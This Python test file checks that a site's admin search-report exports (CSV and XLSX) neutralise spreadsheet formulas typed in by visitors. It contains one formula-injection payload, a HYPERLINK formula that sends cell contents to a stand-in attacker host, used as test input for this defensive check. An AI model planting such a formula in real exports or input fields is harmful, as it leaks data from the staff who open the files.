"""What every admin report's export shares: text typed by visitors and producers is
never run as a formula when the office opens a CSV export in a spreadsheet (the rule
itself, and Wagtail's own exports: tests/test_csv_injection.py)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from search.models import SearchQueryLog

pytest_plugins = ["tests.producer_accounts_fixtures"]

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


@pytest.mark.django_db
def test_a_visitors_search_cannot_plant_a_formula_in_the_office_csv(site, office_client):
    SearchQueryLog.objects.create(
        query=ATTACK, language="vi", result_count=0, duration_ms=3, backend="database"
    )

    response = office_client.get("/admin/reports/search/zero-results/", {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert ["'" + ATTACK] == [row[0] for row in rows[1:]]

    # Wagtail's XLSX export keeps it as text (not a formula) by itself.
    response = office_client.get("/admin/reports/search/zero-results/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet.cell(row=2, column=1)
    assert (cell.value, cell.data_type) == (ATTACK, "s")
